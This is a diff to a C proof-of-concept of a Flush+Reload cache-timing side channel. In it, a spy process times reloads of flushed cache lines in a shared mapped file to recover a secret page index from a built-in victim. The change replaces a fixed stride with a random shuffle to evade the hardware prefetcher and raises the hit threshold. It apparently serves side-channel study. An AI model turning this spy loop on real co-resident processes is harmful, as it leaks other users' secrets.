@@ -24,9 +24,8 @@
 #define BYTES   ((PAGES + 1) * PAGE) /* the last is the spy's own */
 #define OFFSET  1024u                /* of the line in its page */
 #define TRIES   200u
-#define ENOUGH  50u /* hits on one page */
+#define ENOUGH  120
 #define WAIT_NS 200000l
-#define STEP    7u /* coprime to PAGES: pages are read in an order that no prefetcher follows */
 
 static const volatile uint8_t *map_file(const char *path)
 {
@@ -92,9 +91,23 @@ static int victim(const volatile uint8_t *file, unsigned secret, uint64_t ms)
 	return 0;
 }
 
+/* A new order of the pages each time, by xorshift: a constant stride is what a processor's prefetcher learns. */
+static void shuffle(unsigned order[PAGES])
+{
+	static uint32_t x = 2463534242;
+	for (unsigned i = PAGES - 1; i > 0; i--) {
+		x ^= x << 13, x ^= x >> 17, x ^= x << 5;
+		unsigned j = x % (i + 1), kept = order[i];
+		order[i] = order[j];
+		order[j] = kept;
+	}
+}
+
 static int spy(const volatile uint8_t *file, uint64_t ms)
 {
-	unsigned hits[PAGES] = { 0 }, rounds = 0, best = 0, next = 0;
+	unsigned hits[PAGES] = { 0 }, order[PAGES], rounds = 0, best = 0, next = 0;
+	for (unsigned page = 0; page < PAGES; page++)
+		order[page] = page;
 	for (unsigned page = 0; page <= PAGES; page++) /* faults are over before anything is timed */
 		(void)file[page * PAGE + OFFSET];
 	const struct timespec wait = { .tv_nsec = WAIT_NS };
@@ -104,8 +117,9 @@ static int spy(const volatile uint8_t *file, uint64_t ms)
 			flush(file + page * PAGE + OFFSET);
 		_mm_mfence();
 		nanosleep(&wait, NULL); /* whoever shares the CPU runs meanwhile */
+		shuffle(order);
 		for (unsigned i = 0; i < PAGES; i++) {
-			unsigned page = (i * STEP + rounds) % PAGES;
+			unsigned page = order[i];
 			hits[page] += time_read(file + page * PAGE + OFFSET) < limit;
 			best = hits[page] > hits[best] ? page : best;
 		}
